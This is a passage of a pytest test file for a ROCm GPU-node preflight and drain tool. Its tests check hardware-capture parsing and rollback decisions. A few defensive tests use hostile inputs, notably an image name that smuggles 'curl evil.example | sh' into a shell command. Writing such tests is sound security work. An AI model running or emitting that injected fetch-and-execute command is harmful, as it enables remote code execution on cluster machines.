        "GPU 5: infra failures of 3 different tests (a::x, b::y, c::z): the device, not the tests"
    ]
    assert decision["rollback_image"] == GOOD and decision["current_image"] == NEW
    assert decision["rollback_from"] == str(tmp_path / "2026-11-01.json")
    assert (
        f"helm upgrade <runner-set> <chart> --reuse-values --set 'template.spec.containers[0].image={GOOD}'"
        in decision["commands"]
    )
    assert (
        decision["ignored_files"] == [str(tmp_path / "notes.json")]
        and decision["skipped_files"] == []
    )
    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-8"]) == 0


def test_drain_skips_and_names_each_bad_history_file(capsys, tmp_path):
    """Files a clumsy operator or a gated PR's job leaves in the history: each is named, none stops
    the decision."""
    (tmp_path / "broken.json").write_text('{"schema": ')
    (tmp_path / "number.json").write_text('{"schema": 5}')
    (tmp_path / "folder.json").mkdir()
    (tmp_path / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    _gate_report(tmp_path / "2026-11-01.json", "node 7", GOOD, "success")
    valid = json.loads((tmp_path / "2026-11-01.json").read_text())
    (tmp_path / "list.json").write_text(json.dumps({**valid, "tests": [valid["tests"]["t::ok"]]}))
    (tmp_path / "runner.json").write_text(json.dumps({**valid, "manifest": {"runner": ["node 7"]}}))
    for day in (2, 3, 4):
        _gate_report(
            tmp_path / f"2026-11-0{day}.json", "node 7", NEW, "neutral", [f"t{day}::a"], gpu=2
        )
    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node 7"]) == 3
    captured = capsys.readouterr()
    for name, why in [
        ("broken.json", "not JSON"),
        ("number.json", "schema is 5, not an artifact name"),
        ("folder.json", "not a plain file"),
        ("deep.json", "nested"),
        ("list.json", "not a valid gate-report artifact at tests"),
        ("runner.json", "not a valid gate-report artifact at manifest/runner"),
    ]:
        assert (
            f"rocm-gate drain: skipped {tmp_path / name}: " in captured.err and why in captured.err
        ), name
    assert (
        "6 file(s) skipped" in captured.out
        and "GPU 2: infra failures of 3 different tests" in captured.out
    )
    assert (
        "kubectl cordon 'node 7'" in captured.out
        and "kubectl drain 'node 7' --ignore-daemonsets" in captured.out
    )
    assert rocm_gate(["drain", "--history", str(tmp_path / "none"), "--node", "n"]) == 2


@pytest.mark.parametrize(
    "image,valid",
    [
        ("rocm/vllm:rocm7.0_vllm_0.10.1", True),
        ("ghcr.io/owner/image@sha256:" + "a" * 64, True),
        ("localhost:5000/a/b:c", True),
        ("[::1]:5000/rocm/vllm:v1", True),
        ("rocm/vllm@sha256:good", False),
        ("rocm/vllm:vé", False),
        ("rocm/vllm:x\u1160", False),
        ("Rocm/Vllm", False),
        ("rocm/vllm:v1 --set x=y", False),
        ("rocm/vllm:latest\n", False),
        ("a/" * 200 + "b", False),
    ],
)
def test_image_references_follow_the_distribution_grammar(image, valid):
    from rocm_gate.preflight.drain import image_reference

    assert (image_reference(image) == image) is valid


def test_a_pull_requests_report_never_names_the_rollback_image(capsys, tmp_path):
    """A gate report of a PR's run was written by the PR's code: its image is not a rollback
    target."""
    pr = {
        "event": "pull_request_target",
        "ref": "refs/pull/7/merge",
        "default_branch": "main",
        "pr": 7,
        "head_sha": "b" * 40,
        "tested_sha": "b" * 40,
    }
    _gate_report(tmp_path / "2026-11-01.json", "node-7", GOOD, "success")
    _gate_report(
        tmp_path / "2026-11-02.json", "node-7", "attacker/image:latest", "success", provenance=pr
    )
    _gate_report(tmp_path / "2026-11-03.json", "node-7", NEW, "neutral")
    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-7", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["rollback_image"] == GOOD


def test_drain_prints_no_image_name_that_is_not_an_oci_reference(capsys, tmp_path):
    """A manifest written by a gated PR's job names the image the rollback command would carry."""
    hostile = "rocm/vllm:v1'; curl evil.example | sh; echo '"
    _gate_report(tmp_path / "2026-11-01.json", "node-7", hostile, "success")
    _gate_report(tmp_path / "2026-11-02.json", "node-7", NEW, "neutral")
    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-7", "--json"]) == 0
    decision = json.loads(capsys.readouterr().out)
    assert decision["rollback_image"] is None and decision["commands"] == []
    assert decision["notes"] == [
        "2026-11-01.json: the manifest's container_image is not an OCI image reference; "
        "it is not used or printed"
    ]
    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-7"]) == 0
    assert "curl" not in capsys.readouterr().out


@pytest.mark.parametrize(
    "banner",
    [
        "",
        # amd-smi without the render group (ROCm/amdsmi issue 130, amd-smi 25.x), on stdout
        "WARNING: User is missing the following required groups: render, video. Please add user "
        "to these groups.\n",
        # the same through a logger's format (issue 48: preflight refused it, detection read it)
        "[WARNING] User is missing the following required groups: render. Please add user to "
        "these groups.\n",
    ],
    ids=["plain", "warning", "bracketed-warning"],
)
def test_amd_smi_json_and_coloured_text_read_alike(capsys, tmp_path, banner):
    """`amd-smi metric --json` (ROCm 7 wraps GPUs in `gpu_data`) and `bad-pages` text with colours
    and CRLF, shaped like the real captures; the values are set to show each check acting. A
    warning amd-smi prints before its JSON is set aside, as detection does (one JSON finder:
    hw/parsers/amd_smi.py: json_document)."""
    metric = tmp_path / "metric.json"
    metric.write_text(
        banner
        + json.dumps(
            {
                "gpu_data": [
                    {
                        "gpu": 0,
                        "ecc": {"total_correctable_count": 0, "total_uncorrectable_count": 2},
                        "pcie": {"width": 16, "speed": {"value": 16, "unit": "GT/s"}},
                        "temperature": {
                            "edge": "N/A",
                            "hotspot": {"value": 41, "unit": "C"},
                            "mem": {"value": 35, "unit": "C"},
                        },
                    },
                    {
                        "gpu": 1,
                        "retired": "No bad pages found.",
                        "pending": [{"page_address": "0x1234", "page_size": 4096}],
                    },
                ]
            }
        )
    )
    pages = tmp_path / "bad-pages.txt"
    pages.write_bytes(
        b"\x1b[32mGPU: 0\x1b[0m\r\n    RETIRED:\r\n        PAGE_ADDRESS: 0x2f1000\r\n        PAGE_SIZE: 4096\r\n"
        b"        PAGE_ADDRESS: 0x2f3000\r\n    PENDING: No bad pages found.\r\n"
    )
    code, evidence = preflight(
        capsys, "--sku", "MI300X", "--source", f"amd-smi={metric}", "--source", f"amd-smi={pages}"
    )
    findings = {
        (f["check"], f["status"], f["message"]) for f in layer(evidence, "hardware")["findings"]
    }
    assert code == 3
    assert ("ecc.uncorrectable", "failed", "GPU 0 ECC/TOTAL_UNCORRECTABLE_COUNT = 2") in findings
    assert ("pcie.link", "failed", "GPU 0 PCIe speed 16 GT/s below 32") in findings
    assert (
        "bad_pages.pending",
        "degraded",
        "GPU 1: 1 page(s) pending retirement (reset the GPU to retire them)",
    ) in findings
    assert (
        "bad_pages.retired",
        "ok",
        "GPU 0: 2 page(s) retired (safe; `rocm-gate drain` acts when the count grows)",
    ) in findings
    assert all(source["unread"] == 0 for source in layer(evidence, "hardware")["sources"])
    assert all(source.get("problem") is None for source in layer(evidence, "hardware")["sources"])


def test_a_tool_that_hangs_partway_fails_its_layer_and_says_it_hung(capsys, tmp_path, monkeypatch):
    """A real lspci capture printed halfway, then the tool hangs (a hung GPU hangs its tools): the
    live run's timeout stops it, and the part it printed, healthy as it reads, does not pass the
    layer. Before: accepted, the timeout's line counted as one line not understood."""
    from rocm_gate.preflight import live
    from rocm_gate.preflight.layers import Layer, read_outputs
    from rocm_gate.preflight.thresholds import load as load_thresholds

    name = "lspci/mi350x_x8_lspci_DevSta_LnkSta_32GTs_x16_ok_mhilgema-proj.txt"
    lines = _sample(name).splitlines(keepends=True)
    half = tmp_path / "half.txt"
    half.write_text("".join(lines[: len(lines) // 2]))
    tools = tmp_path / "bin"
    tools.mkdir()
    fake = tools / "lspci"
    fake.write_text(f"#!/bin/sh\ncat {half}\nexec sleep 600\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
    output = live.run("lspci", ["lspci", "-vv", "-d", "1002:"], timeout_s=1)
    hardware = Layer("hardware")
    read_outputs(hardware, [output], load_thresholds().for_sku(None), required=True)
    assert hardware.verdict == "failed"
    [hang] = [f for f in hardware.findings if f.check == "tool.hang"]
    assert hang.text == "TIMEOUT: did not finish in 1 s (hang)"
    assert "the tool hung and was stopped" in hardware.reason
    # what it printed before still counts as read: only the hang decides
    assert hardware.sources[0]["understood"] > 0 and hardware.sources[0]["unread"] == 0


def test_a_tool_that_hung_before_printing_anything_says_it_hung(capsys, tmp_path):
    """The whole output a live run keeps of an amd-smi that never answered, given back as a file."""
    hung = tmp_path / "amd-smi.txt"
    hung.write_text("\nTIMEOUT: did not finish in 60 s (hang)\n")
    code, evidence = preflight(capsys, "--require", "hardware", "--source", f"amd-smi={hung}")
    hardware = layer(evidence, "hardware")
    assert code == 3 and hardware["verdict"] == "failed"
    assert hardware["reason"].startswith("the tool hung and was stopped")


@pytest.mark.parametrize("printed", ["N/A", "Not supported"])
def test_bad_pages_amd_smi_could_not_read_are_not_measured(capsys, tmp_path, printed):
    """`amd-smi bad-pages` prints N/A for each kind when the driver gives no table
    (amdsmi_commands.py `bad_pages`): not 0 pages judged unreservable, which refused a healthy
    node with a reason that contradicted itself."""
    text = "".join(
        f"GPU: {gpu}\n    RETIRED: {printed}\n    PENDING: {printed}\n    UN_RES: {printed}\n"
        for gpu in range(2)
    )
    source = tmp_path / "bad-pages.txt"
    source.write_text(text)
    code, evidence = preflight(
        capsys, "--sku", "MI300X", "--require", "hardware", "--source", f"amd-smi={source}"
    )
    hardware = layer(evidence, "hardware")
    assert hardware["verdict"] == "ok", hardware["reason"]
    checks = {f["check"] for f in hardware["findings"]}
    assert checks == {"bad_pages.not_measured"}
    assert "unreservable" not in json.dumps(hardware)
    # a real count beside them is still judged
    source.write_text(
        text.replace(
            f"UN_RES: {printed}",
            "UN_RES:\n        PAGE_ADDRESS: 0x12345\n        PAGE_SIZE: 4096",
            1,
        )
    )
    code, evidence = preflight(
        capsys, "--sku", "MI300X", "--require", "hardware", "--source", f"amd-smi={source}"
    )
    assert code == 3 and "1 page(s) unreservable" in layer(evidence, "hardware")["reason"]


def _profile(tmp_path, gpus: list[tuple[str, str]]) -> str:
    """A platform profile of (SKU, partition) GPUs, as `rocm-gate doctor --json` writes one."""
    path = tmp_path / "node.json"
    path.write_text(
        json.dumps(
            {
                "vendor": "amd",
                "gpus": [
                    {"sku": sku, "arch": "gfx942", "memory_gb": 24, "partition": partition}
                    for sku, partition in gpus
                ],
            }
        )
    )
    return str(path)


def test_a_node_in_cpx_mode_is_counted_as_it_lists_its_gpus(capsys, tmp_path):
    """8 x MI300X in CPX lists 64 GPUs (ROCm/legacy-rocm-build#4750): the thresholds' 8 are
    physical GPUs. Before, a healthy CPX node was refused as 'expected 8 GPU(s)'."""
    cpx = _profile(tmp_path, [("MI300X", "CPX/NPS1")] * 64)
    code, evidence = preflight(capsys, "--platform", cpx, "--sku", "MI300X")
    assert layer(evidence, "framework")["verdict"] == "ok", layer(evidence, "framework")
    # one logical GPU missing is still found
    short = _profile(tmp_path, [("MI300X", "CPX/NPS1")] * 63)
    code, evidence = preflight(capsys, "--platform", short, "--sku", "MI300X")
    assert code == 3 and "expected 64 GPU(s)" in layer(evidence, "framework")["reason"]


def test_a_node_of_two_skus_is_not_accepted_unjudged(capsys, tmp_path):
    """4 x MI300X + 4 x MI325X: no SKU, so no floors and no GPU count applied, and the node was
    accepted."""
    mixed = _profile(tmp_path, [("MI300X", "SPX/NPS1")] * 4 + [("MI325X", "SPX/NPS1")] * 4)
    code, evidence = preflight(capsys, "--platform", mixed)
    framework = layer(evidence, "framework")
    assert code == 3 and framework["verdict"] == "failed"
    assert "GPUs of more than one SKU (4 x MI300X + 4 x MI325X)" in framework["reason"]
    code, evidence = preflight(capsys, "--platform", mixed, "--sku", "MI300X")
    assert "expected every GPU to be MI300X; 4 are not" in layer(evidence, "framework")["reason"]


def test_a_concise_row_without_a_temperature_still_has_its_vram_judged(capsys, tmp_path):
    """The real 8 x MI308X concise table, GPU 5's temperature N/A (a partition's or a virtual
    function's row) and its VRAM held at 95 %: the row was skipped whole, as not understood, and
    the node accepted."""
    name = "rocm-smi/mi308x_x8_rocm-smi_concise_idle_ms-swift.txt"
    lines = _sample(name).splitlines()
    row = next(i for i, line in enumerate(lines) if line.startswith("5 "))
    head, vram, activity = lines[row].replace("42.0°C", "N/A   ").rsplit(None, 2)
    lines[row] = f"{head}  95%    {activity}"
    held = tmp_path / "rocm-smi.txt"
    held.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(
        capsys, "--sku", "MI308X", "--require", "hardware", "--source", f"rocm-smi={held}"
    )
    failed = [f for f in _findings(evidence, "hardware", "vram.idle") if f["status"] == "failed"]
    assert code == 3 and [f["line"] for f in failed] == [row + 1]
    assert layer(evidence, "hardware")["sources"][0]["unread"] == 0


@pytest.mark.parametrize(
    "line, driver",
    [
        # tests/data/samples/preflight/dmesg/..._healthy_amd_grep_..._augmxnt.txt
        (
            "[   10.358105] pci 0000:1b:00.0: ROM [mem size 0x00020000 pref]: failed to assign",
            "pci",
        ),
        (
            "[   34.328273] spi-nor spi0.1: error -EOPNOTSUPP: Failed to register OTP NVMEM device",
            "spi-nor",
        ),
        ("[   34.328651] spi-nor: probe of spi0.1 failed with error -95", "spi-nor"),
        # journalctl -k's prefix
        ("Nov 09 12:00:01 mi300x-07 kernel: nvme nvme2: I/O 12 QID 3 timeout, aborting", "nvme"),
        # the GPU's own lines, and lines no driver names, are read by the rules
        ("[109852.827932] amdgpu 0000:1b:00.0: amdgpu: \t WALKER_ERROR: 0x0", None),
        ("[  120.1] [drm:amdgpu_job_timedout [amdgpu]] *ERROR* ring gfx_0.0.0 timeout", None),
        ("[  120.2] kfd kfd: amdgpu: Failed to restore process queues", None),
        ("HW Exception by GPU node-9 (Agent handle: 0x5f9a) reason :GPU Hang", None),
        ("[ 7558.1] {1}[Hardware Error]: Accelerator Check Architecture events logged", None),
    ],
)
def test_another_drivers_kernel_line_is_set_aside(line, driver):
    from rocm_gate.preflight.readers.dmesg import other_driver

    assert other_driver(line) == driver


@pytest.mark.parametrize(
    "sample, command",
    [
        # the ASIC and BUS of `amd-smi static` (no VRAM, compute units or partition in it)
        ("amd-smi/mi300x-o_amd-smi_static_text_rocm-blogs.txt", "`amd-smi static`"),
        ("amd-smi/mi300x_amd-smi_version_json_rocm7.2.1_dell-ai.json", "`amd-smi version`"),
    ],
)
def test_an_amd_smi_command_judged_nowhere_is_not_proven_never_refused(capsys, sample, command):
    """A healthy node's output of an amd-smi command no rule reads (issue 48: refused as
    "nothing in this amd-smi output could be judged"): the hardware layer is not proven, naming the
    command, so adding a check to a fleet's preflight never refuses a healthy node."""
    source = f"amd-smi={SAMPLES / sample}"
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", source)
    hardware = layer(evidence, "hardware")
    assert hardware["verdict"] == "skipped" and code == 0  # --require none: nothing asked it
    assert f"not judged: nothing in {command} output is judged here" in hardware["reason"]
    code = rocm_gate(["preflight", "--json", "--sku", "MI300X", "--source", source])
    capsys.readouterr()
    assert code == 4  # hardware is required by default: not proven, not refused


# `amd-smi bad-pages` with pages, as amd-smi prints them: each page a PAGE_ADDRESS, PAGE_SIZE and
# STATUS (ROCm/amdsmi amdsmi_cli/amdsmi_commands.py: bad_pages; amdsmi_logger.py:
# _convert_json_to_human_readable, its YAML with the list's dash turned into a space; commit
# 0ceca28f), numbers in decimal unless --hex. Written here to that format (no public capture of a
# node with bad pages was found); the addresses are made up.
BAD_PAGES = """GPU: 0
    RETIRED:
        PAGE_ADDRESS: 137438953472
        PAGE_SIZE: 4096
        STATUS: RESERVED
    PENDING: No bad pages found.
    UN_RES: No bad pages found.

GPU: 1
    RETIRED:
        PAGE_ADDRESS: 68719476736
        PAGE_SIZE: 4096
        STATUS: RESERVED
        PAGE_ADDRESS: 68719480832
        PAGE_SIZE: 4096
        STATUS: RESERVED
    PENDING:
        PAGE_ADDRESS: 68719484928
        PAGE_SIZE: 4096
        STATUS: PENDING
    UN_RES: No bad pages found.
"""


@pytest.mark.parametrize("base", ["decimal", "hex"])
def test_bad_pages_are_counted_as_pages_in_either_base(capsys, tmp_path, base):
    """Issue 48: only `0x` values were counted, so amd-smi's default (decimal) output counted 0
    pages, and with --hex each page's size counted as a page too; `drain` acts on the count."""
    text = BAD_PAGES
    if base == "hex":
        text = re.sub(r"(PAGE_ADDRESS|PAGE_SIZE): (\d+)", lambda m: f"{m[1]}: {int(m[2]):#x}", text)
    source = tmp_path / "bad-pages.txt"
    source.write_text(text)
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"amd-smi={source}")
    found = {
        (f["check"], f["message"].split(":")[0], f["value"])
        for f in layer(evidence, "hardware")["findings"]
        if f["check"] in ("bad_pages.retired", "bad_pages.pending")
    }
    assert found == {
        ("bad_pages.retired", "GPU 0", 1),
        ("bad_pages.retired", "GPU 1", 2),
        ("bad_pages.pending", "GPU 1", 1),
    }
    assert layer(evidence, "hardware")["verdict"] == "degraded"  # a page pending retirement


@pytest.mark.parametrize(
    "sample, sku, line_of, scale",
    [
        # AMD's MI355X gst_single.conf: target_stress 0, so `met: TRUE` whatever the GPU does
        (
            "rvs/mi355x_x8_rvs1.6.75_gst_fp4_met_true_with_summary_rocm7.2.1_rvs-ug1main_EXCERPT.txt",
            "MI355X",
            "[GPU:: 27226] GFLOPS 1068301",
            0.56,
        ),
        # pebb: one GPU's host link at half its peers' bandwidth, from every CPU
        (
            "rvs/mi300x_x8_rvs_pebb_single_d2h_system-acceptance-docs_EXCERPT.txt",
            "MI300X",
            "[GPU:: 9 - 63738 - 0000:e5:00.0] h2d::false d2h::true 56.334 GBps",
            0.5,
        ),
    ],
    ids=["gst", "pebb"],
)
def test_rvs_figures_are_held_to_their_peers_whatever_met_says(
    capsys, tmp_path, sample, sku, line_of, scale
):
    """Issue 48: a GPU throttled to 56 % of its peers in gst was accepted (only `met: TRUE` was
    read), and pebb's bandwidth lines were never read. The real capture passes; the same capture
    with one GPU's figure scaled down fails, quoting that GPU's line."""
    text = (PREFLIGHT / sample).read_text(encoding="utf-8")
    code, evidence = preflight(capsys, "--sku", sku, "--source", f"rvs={PREFLIGHT / sample}")
    assert layer(evidence, "hardware")["verdict"] == "ok", layer(evidence, "hardware")["reason"]
    number = re.search(r"([\d.]+)( GBps)?$", line_of)[1]
    slow = line_of.replace(number, f"{float(number) * scale:g}")
    assert line_of in text
    changed = tmp_path / "rvs.txt"
    changed.write_text(text.replace(line_of, slow), encoding="utf-8")
    code, evidence = preflight(capsys, "--sku", sku, "--source", f"rvs={changed}")
    hardware = layer(evidence, "hardware")
    assert hardware["verdict"] == "failed" and code == 3, hardware["reason"]
    deciding = [f for f in hardware["findings"] if f["status"] == "failed"]
    assert [slow in f["text"] for f in deciding] == [True], deciding


def test_an_all_to_all_link_at_half_its_rows_bandwidth_fails(capsys, tmp_path):
    """Issue 48: the a2a matrix was left out of the peer rule (its healthy rows differ by 22 %), so
    one link at half bandwidth was accepted. Within a row of AMD's published MI300X matrix no
    healthy cell is more than 16 % below the median of the row's others (15.9 %, GPU 0's row): the
    real capture stays accepted; the same with GPU 3 -> GPU 1 halved fails on that row."""
    name = "transferbench/mi300x_x8_transferbench_a2a_system-acceptance-docs_wscollapsed.txt"
    text = (PREFLIGHT / name).read_text(encoding="utf-8")
    row = next(line for line in text.splitlines() if line.startswith("GPU 03 "))
    assert row.split()[3] == "28.583"
    slow_row = row.replace(" 28.583 ", " 14.600 ", 1)
    changed = tmp_path / "a2a.txt"
    changed.write_text(text.replace(row, slow_row), encoding="utf-8")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={changed}")
    hardware = layer(evidence, "hardware")
    failing = [f for f in hardware["findings"] if f["status"] == "failed"]
    assert code == 3 and [f["check"] for f in failing] == ["transferbench.a2a_link"]
    assert failing[0]["text"] == slow_row and "GPU 3 to GPU 1" in failing[0]["message"]


def test_a_cpx_node_that_names_no_partition_is_known_by_its_compute_units(capsys, tmp_path):
    """Issue 48: rocminfo names no partition mode, so a healthy MI300X in CPX (64 agents of 38 CUs:
    304 / 8) was refused as 'expected 8 GPU(s), this runner has 64'. The mode is inferred from the
    CU count, in detection (rocminfo) and in a `doctor --json` platform that has none."""
    from pytest_rocm.hw.parsers.rocminfo import parse

    text = (SAMPLES / "rocminfo/mi300x_x4_rocminfo_thamada.txt").read_text(encoding="utf-8")
    cpx = parse(re.sub(r"(Compute Unit:\s+)304\b", r"\g<1>38", text))
    assert [(g.sku, g.partition) for g in cpx.gpus] == [("MI300X", "CPX")] * 4
    whole = parse(text)
    assert [(g.sku, g.partition) for g in whole.gpus] == [("MI300X", None)] * 4
    node = tmp_path / "node.json"
    node.write_text(
        json.dumps(
            {
                "vendor": "amd",
                "gpus": [{"sku": "MI300X", "arch": "gfx942", "compute_units": 38}] * 64,
            }
        )
    )
    code, evidence = preflight(capsys, "--platform", str(node), "--sku", "MI300X")
    assert layer(evidence, "framework")["verdict"] == "ok", layer(evidence, "framework")


LINKS_DOWN = (
    "amd-smi/mi300_amd-smi_xgmi_--link-status_links_down_rocm6.4_amdsmi-changelog_EXCERPT.txt"
)
FIRMWARE = "amd-smi/mi300a_x4_amd-smi_firmware_rocm6.3.3_rocm-issue-4477.txt"


def test_xgmi_link_status_a_link_down_fails_and_the_same_node_with_every_link_up_passes(
    capsys, tmp_path
):
    """Issue 48: `amd-smi xgmi --link-status` was not understood at all. AMD's example (links 4
    and 6 down, link 7 disabled on both GPUs) is refused naming each GPU's down links; the same
    output with those links up is accepted (the disabled port is on every GPU: by design); one GPU
    with a port disabled that its peers have up is refused."""
    text = (PREFLIGHT / LINKS_DOWN).read_text(encoding="utf-8")
    up = tmp_path / "up.txt"
    up.write_text(text.replace(" D ", " U "), encoding="utf-8")
    code, evidence = preflight(capsys, "--source", f"amd-smi={up}")
    hardware = layer(evidence, "hardware")
    assert (code, hardware["verdict"]) == (0, "ok"), hardware["reason"]
    assert "XGMI links up: 14 on 2 GPU(s), 1 disabled on each by design" in hardware["reason"]
    row = "GPU1   0000:44:00.0  U  U  U  U  U  U  U  X"
    one_off = tmp_path / "one-off.txt"
    one_off.write_text(
        up.read_text().replace(row, row.replace("U  U  U  X", "U  U  X  X")), encoding="utf-8"
    )
    code, evidence = preflight(capsys, "--source", f"amd-smi={one_off}")
    failing = [f for f in layer(evidence, "hardware")["findings"] if f["status"] == "failed"]
    assert code == 3 and [f["message"] for f in failing] == [
        "GPU 1: 2 XGMI link(s) disabled, its peers 1"
    ]
    assert failing[0]["text"].startswith("GPU1   0000:44:00.0")


def test_a_firmware_component_that_differs_across_gpus_degrades_naming_both_versions(
    capsys, tmp_path
):
    """Issue 48: `amd-smi firmware` was never compared across GPUs. The real 4-GPU capture (every
    component alike) is accepted; with GPU 2 on an older PM firmware the node is degraded, naming
    GPU 2, PM and both versions, quoting GPU 2's line."""
    text = (PREFLIGHT / FIRMWARE).read_text(encoding="utf-8")
    blocks = text.split("\n\n")
    assert len(blocks) == 4 and all("FW_VERSION: 04.85.103.184" in b for b in blocks)
    blocks[2] = blocks[2].replace("04.85.103.184", "04.85.101.170")
    older = tmp_path / "firmware.txt"
    older.write_text("\n\n".join(blocks), encoding="utf-8")
    code, evidence = preflight(capsys, "--source", f"amd-smi={older}")
    hardware = layer(evidence, "hardware")
    degraded = [f for f in hardware["findings"] if f["status"] == "degraded"]
    assert (code, hardware["verdict"]) == (0, "degraded")
    assert [f["message"] for f in degraded] == [
        "GPU 2: PM firmware 04.85.101.170, its peers 04.85.103.184 (3 of 4 GPUs); update it to match"
    ]
    lines = older.read_text().splitlines()
    assert lines[degraded[0]["line"] - 1].strip() == "FW_VERSION: 04.85.101.170"


def test_firmware_and_link_status_read_alike_from_json(capsys, tmp_path):
    """`--json` output of both commands (the same tree as the text, amdsmi_commands.py) reads as
    the text does."""
    firmware = [
        {"gpu": g, "fw_list": [{"fw_id": "PM", "fw_version": "85.110.0" if g != 1 else "85.101.0"}]}
        for g in range(3)
    ]
    links = [{"gpu": g, "link_status": ["U", "U", "D" if g == 0 else "U", "X"]} for g in range(2)]
    for data, check, status, message in (
        (
            firmware,
            "firmware.mismatch",
            "degraded",
            "GPU 1: PM firmware 85.101.0, its peers 85.110.0",
        ),
        (links, "xgmi.link_status", "failed", "GPU 0: XGMI link 2 down"),
    ):
        source = tmp_path / f"{check}.json"
        source.write_text(json.dumps(data))
        code, evidence = preflight(capsys, "--source", f"amd-smi={source}")
        found = [f for f in layer(evidence, "hardware")["findings"] if f["check"] == check]
        assert [(f["status"], f["message"].split(" (")[0].split(";")[0]) for f in found] == [
            (status, message)
        ]


@pytest.mark.parametrize(
    "links, expected",
    [
        ({"0": "UUUX", "1": "UUUX"}, ["ok"]),
        ({"0": "UUDX", "1": "UUUX"}, ["failed GPU 0: XGMI link 2 down"]),
        (
            {"0": "UUXX", "1": "UUUX", "2": "UUUX"},
            ["failed GPU 0: 2 XGMI link(s) disabled, its peers 1"],
        ),
        ({"0": "UUUU"}, ["ok"]),
        ({"0": "", "1": ""}, []),
    ],
)
def test_judge_links_table(links, expected):
    from rocm_gate.preflight.readers.amd_smi import judge_links

    found = judge_links({gpu: [(None, c, None) for c in cells] for gpu, cells in links.items()})
    assert [f.status if f.status == "ok" else f"{f.status} {f.message}" for f in found] == expected


@settings(max_examples=200, deadline=None)
@given(
    st.dictionaries(
        st.integers(0, 7).map(str),
        st.lists(st.sampled_from("UDXN"), min_size=1, max_size=8),
        min_size=1,
        max_size=8,
    )
)
def test_judge_links_against_an_oracle(rows):
    """Generated nodes: a GPU fails exactly where it has a link down or more links disabled than
    the most common count; a node with a link read and nothing failing has one ok finding."""
    from rocm_gate.preflight.readers.amd_smi import judge_links

    cells = {g: ["N/A" if c == "N" else c for c in r] for g, r in rows.items()}
    found = judge_links({g: [(None, c, None) for c in r] for g, r in cells.items()})
    read = {g: r for g, r in cells.items() if any(c != "N/A" for c in r)}
    disabled = [r.count("X") for r in read.values()]
    usual = max(set(disabled), key=lambda n: (disabled.count(n), -n)) if disabled else 0
    bad = {g for g, r in read.items() if "D" in r or r.count("X") > usual}
    named = {f.message.split(":")[0].removeprefix("GPU ") for f in found if f.status == "failed"}
    assert named == bad
    if not bad:
        assert [f.status for f in found] == (["ok"] if read else [])


@pytest.mark.parametrize(
    "agents, expect, expected",
    [
        ([304] * 8, 8, ["ok 8 GPU agent(s) of 304 compute units (SPX)"]),
        ([38] * 64, 8, ["ok 64 GPU agent(s) of 38 compute units (CPX)"]),
        ([304] * 4, 8, ["failed 4 GPU agent(s); the runner has 8 GPU(s)"]),
        ([38] * 63, 8, ["failed 63 GPU agent(s); the runner has 8 GPU(s), 64 in CPX"]),
        ([304, 304, 288, 304], None, ["failed GPU agent 2: 288 compute units, its peers 304"]),
        # a tie between two counts: the agents with fewer are named, whatever the order
        ([288, 304, 288, 304], None, ["failed GPU agent 0: 288 compute units, its peers 304"]),
        ([300] * 4, None, ["failed GPU agent 0: 300 compute units, neither a whole MI300X (304)"]),
    ],
)
def test_rocminfo_agents_table(agents, expect, expected):
    from rocm_gate.preflight.readers.rocminfo import judge_agents

    found = judge_agents([("MI300X", cus, None) for cus in agents], "MI300X", expect)
    shown = [f"{f.status} {f.message}" for f in found]
    assert [s[: len(e)] for s, e in zip(shown, expected, strict=False)] == expected
    assert len(shown) == (len(expected) if expected[0].startswith("ok") else len(shown))


def test_rocminfo_is_a_preflight_source_with_its_agents_judged(capsys, tmp_path):
    """Issue 48: rocminfo was no preflight source. The real 4x MI300X capture is accepted as a
    4-GPU runner and refused as an 8-GPU one; with one agent's compute units cut it is refused,
    quoting that agent's line."""
    source = SAMPLES / "rocminfo/mi300x_x4_rocminfo_thamada.txt"
    code, evidence = preflight(capsys, "--expect-gpus", "4", "--source", f"rocminfo={source}")
    assert (code, layer(evidence, "hardware")["verdict"]) == (0, "ok")
    assert evidence["sku"] == "MI300X" and evidence["sku_from"] == f"named by {source}"
    code, evidence = preflight(capsys, "--expect-gpus", "8", "--source", f"rocminfo={source}")
    assert (code, layer(evidence, "hardware")["verdict"]) == (3, "failed")
    text = source.read_text(encoding="utf-8")
    units = [m.start() for m in re.finditer(r"Compute Unit:\s+304", text)]
    cut = text[: units[2]] + text[units[2] :].replace("304", "288", 1)
    harvested = tmp_path / "rocminfo.txt"
    harvested.write_text(cut, encoding="utf-8")
    code, evidence = preflight(capsys, "--expect-gpus", "4", "--source", f"rocminfo={harvested}")
    failing = [f for f in layer(evidence, "hardware")["findings"] if f["status"] == "failed"]
    assert code == 3 and len(failing) == 1 and failing[0]["text"].endswith("288")
    # issue 61: without --expect-gpus the agents are counted against the SKU's node size (8 MI300X)
    code, evidence = preflight(capsys, "--source", f"rocminfo={source}")
    failing = [f for f in layer(evidence, "hardware")["findings"] if f["status"] == "failed"]
    assert code == 3 and [f["message"] for f in failing] == [
        "4 GPU agent(s); a MI300X node has 8 GPU(s)"
    ]


def test_a_capture_that_names_no_gpu_is_judged_by_the_floor_another_source_names(
    capsys, tmp_path, monkeypatch
):
    """Issue 48: TransferBench's a2a output names no GPU, so without --sku its floor was never
    applied. The SKU comes from --sku, then the runner class (PYTEST_ROCM_SKU), then another source
    of the same run, then the GPUs detected; the evidence says which, and which floor applied."""
    a2a = (
        PREFLIGHT
        / "transferbench/mi300x_x8_transferbench_a2a_system-acceptance-docs_wscollapsed.txt"
    )
    rocminfo = SAMPLES / "rocminfo/mi300x_x4_rocminfo_thamada.txt"
    monkeypatch.delenv("PYTEST_ROCM_SKU", raising=False)
    code, alone = preflight(capsys, "--source", f"transferbench={a2a}")
    assert alone["sku"] is None and "only the relative rules judged" in alone["sku_from"]
    assert "no floor for an unknown SKU" in layer(alone, "hardware")["reason"]
    code, both = preflight(
        capsys,
        "--expect-gpus",
        "4",
        "--source",
